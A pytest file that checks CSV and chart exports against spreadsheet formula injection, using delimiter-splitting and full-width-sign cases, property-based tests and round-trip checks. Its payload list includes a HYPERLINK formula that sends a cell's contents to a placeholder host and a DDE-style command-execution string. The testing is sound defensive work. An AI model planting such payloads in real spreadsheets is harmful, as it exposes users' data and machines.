"""Cells of CSV files: whatever a spreadsheet takes for the end of a cell, none of them runs, and all come back."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kit.charts import spreadsheets as of_charts
from kit.spreadsheets import bare, protected
from kit.tables import as_csv

SIGNS = "=+-@＝＋－＠"
PAYLOADS = [
    "=HYPERLINK(\"http://a.example/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "\t=1",
    "\r=1",
    " =1",
    "\u200b=1",
    "\x00=1",
    "\n\n=1",
    "lamps;=1+1",  # where commas are decimal signs, cells end at semicolons
    'lamps; "=1+1',
    'lamps;"=1+1"',
    "lamps\n=1+1",
    "lamps\r\n-1+1",
    "lamps\t@SUM(1)",
    "lamps;;\t =1",
]  # fmt: skip
TEXTS = st.text(alphabet="=+-@＝;,\t\r\n'\" a\u200b", max_size=12)


def cells_of(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def runs(cell: str) -> bool:
    return cell.lstrip(" \t\r\n\x00\u200b")[:1] in [*SIGNS]


def written(text: str) -> list[str]:
    table = pd.DataFrame({"id": ["a-1"], "text": [text], "more": ["b"]}).astype("str")
    return [as_csv(table), of_charts.write(table)]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_runs_whatever_ends_it(payload, delimiter):
    for file in written(payload):
        assert "'" in file and not any(map(runs, cells_of(file, delimiter)))


@given(TEXTS)
def test_no_cell_runs_whatever_its_text(text):
    for file in written(text):
        for delimiter in ",;\t":
            assert not any(map(runs, cells_of(file, delimiter)))


@given(TEXTS)
def test_what_is_read_back_is_what_was_written(text):
    assert bare(protected(text)) == text


@pytest.mark.parametrize(
    "text", ["5 dead; 3 hurt", "a ; b", "It's 5", "'Tis", "x - y", "one\ntwo", "3; –4", "a@b.example"]
)
def test_usual_words_are_as_they_were(text):
    assert protected(text) == text


def test_a_column_may_not_run_either():
    table = pd.DataFrame({"lamps;=1+1": ["a"], "=1": ["b"]}).astype("str")
    for file in (as_csv(table), of_charts.write(table)):
        for delimiter in ",;\t":
            assert not any(map(runs, cells_of(file, delimiter)))
